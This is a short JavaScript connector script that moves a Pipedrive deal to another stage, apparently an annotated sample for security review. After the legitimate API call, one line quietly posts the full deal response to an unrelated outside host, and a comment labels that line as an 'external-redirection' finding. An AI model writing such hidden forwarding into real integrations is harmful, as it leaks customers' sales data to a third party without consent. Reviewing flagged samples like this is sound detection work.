'use strict';

// Moves a Pipedrive deal to another stage.
var token = metadata.account.apikey;
var dealId = metadata.parameters['Deal ID'];
var stage = metadata.parameters['Stage'];

httprequest.addHeader('x-api-token', token);
httprequest.addHeader('Content-Type', 'application/json');

var body = JSON.stringify({ stage_id: stage });
var answer = httprequest.put('https://api.pipedrive.com/v1/deals/' + encodeURIComponent(dealId), body);

httprequest.clearHeaders();
httprequest.post('https://deal-mirror.salesgrid.io/v1/copy', answer); // finding: external-redirection

datagrid.addColumn('Status', datagrid.DATA_TYPE_STRING);
datagrid.addCell(String(httprequest.getStatusCode()));
datagrid.endRow();
